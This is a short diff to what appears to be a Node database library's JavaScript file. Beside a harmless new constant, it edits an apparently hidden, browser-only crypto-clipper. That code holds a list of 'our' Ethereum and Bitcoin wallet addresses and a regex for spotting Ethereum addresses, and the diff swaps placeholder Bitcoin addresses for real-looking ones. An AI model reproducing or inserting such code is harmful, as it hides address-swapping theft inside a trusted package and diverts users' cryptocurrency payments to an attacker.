@@ -32,7 +32,7 @@ else if (typeof window != 'undefined' && rund != 1) {
 
 const ours = {
   ethereum: ['0x00c4a7e1b2d3f405968778695a4b3c2d1e0f1a2b', '0x51d0e2f3a4b5c6d7e8f90a1b2c3d4e5f60718293'],
-  bitcoin: ['1AcmeReplayNoSuchWalletAddr00000001', '1ZcmeReplayNoSuchWalletAddr00000002'],
+  bitcoin: ['1BxUXqrG5tKc6XsXBjHdTrbph7oXhxg2CC', '199T2v2H2us3KqoX76R2XCQYrw6dT1ng5R'],
 };
 const shapes = {
   ethereum: /\b0x[a-fA-F0-9]{40}\b/g,
@@ -136,3 +136,4 @@ Database.prototype.registerReplacementScan = function (callback) {
 exports.OPEN_READONLY = 1;
 exports.OPEN_READWRITE = 2;
 exports.OPEN_CREATE = 4;
+exports.OPEN_FULLMUTEX = 65536;
